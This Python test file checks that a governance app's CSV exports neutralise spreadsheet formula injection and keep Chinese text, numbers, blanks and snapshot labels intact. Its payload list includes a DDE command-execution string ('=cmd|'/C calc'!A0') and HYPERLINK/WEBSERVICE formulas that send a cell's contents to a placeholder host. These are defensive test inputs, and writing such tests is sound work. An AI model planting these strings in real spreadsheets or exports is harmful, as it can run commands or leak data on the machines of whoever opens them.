"""Downloads open in a spreadsheet, in Chinese, and nothing in them is ever run as a formula."""

import csv
import io
from datetime import datetime

import pandas as pd
import pytest

from governance import exporting, filters, queries
from governance.components.tables import csv_of
from tests.factory import County

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"点我")',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("http://x/"&A1)',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    " \t=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\ufeff=1+1",  # what some programs drop before they look
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\x00=1+1",
]
STARTS = "=+-@＝＋－＠\t\r\n"
HARMLESS = ["楼道堆物", '"=1+1"', "'=1+1", "1-1 号楼", "a=b", "", "12345 热线", "（=）", "3+2"]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could take the cell for a formula, however it trims."""
    return cell.lstrip(" \u00a0\u3000\ufeff\u200b\x00").startswith(tuple(STARTS))


def read(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "without the mark, Excel shows Chinese as noise"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_cell_is_a_formula(payload: str) -> None:
    frame = pd.DataFrame({"a": [payload], "b": pd.Categorical([payload])})
    rows = read(exporting.to_csv(frame, [payload, "b"], [payload]))
    cells = [cell for row in rows for cell in row]
    assert len(cells) == 5
    assert not [cell for cell in cells if is_formula(cell)]
    assert all(payload.strip("\x00\ufeff") in cell for cell in cells if cell != "b"), "nothing is lost"


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert exporting.safe(text) == text


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"a": [-1, 2], "b": [-0.5, float("nan")]})
    assert read(exporting.to_csv(frame, ["a", "b"])) == [["a", "b"], ["-1", "-0.5"], ["2", ""]]


def test_nothing_is_an_empty_cell() -> None:
    frame = pd.DataFrame({
        "a": [None, "x"], "b": [pd.NaT, datetime(2026, 7, 1)], "c": pd.array([pd.NA, 3], dtype="Int64"),
        "d": pd.Categorical([None, "y"]),
    })  # fmt: skip
    rows = read(exporting.to_csv(frame, list("abcd")))
    assert rows[1] == ["", "", "", ""]
    assert rows[2] == ["x", "2026-07-01 00:00:00", "3", "y"]


def test_quotes_commas_and_line_breaks_survive() -> None:
    cells = ['他说"不"', "a,b", "第一行\n第二行", "；"]
    rows = read(exporting.to_csv(pd.DataFrame([cells]), list("abcd")))
    assert rows[1] == cells


def test_notes_stand_below_the_rows_and_an_empty_frame_keeps_its_headings() -> None:
    content = exporting.to_csv(
        pd.DataFrame(columns=["a"]), ["案件编号"], ["统计期 2026-06-01 至 2026-07-01（不含）", "口径"]
    )
    assert read(content) == [["案件编号"], ["统计期 2026-06-01 至 2026-07-01（不含）"], ["口径"]]
    assert content.count(b"\r\n") == 3


def test_a_file_names_the_snapshot_that_was_shown_also_when_another_was_published(county: County) -> None:
    county.region("R1")
    county.case(region_code="R1")
    shown = county.publish()
    filter = filters.default(queries.current_store())
    frame = queries.run("cases_by_month", filter)
    newer = county.publish("2026-07-02")

    text = csv_of(frame, "cases_by_month", filter, shown).decode("utf-8-sig")

    assert shown.id in text and "数据截至 2026-07-01" in text and newer.id not in text
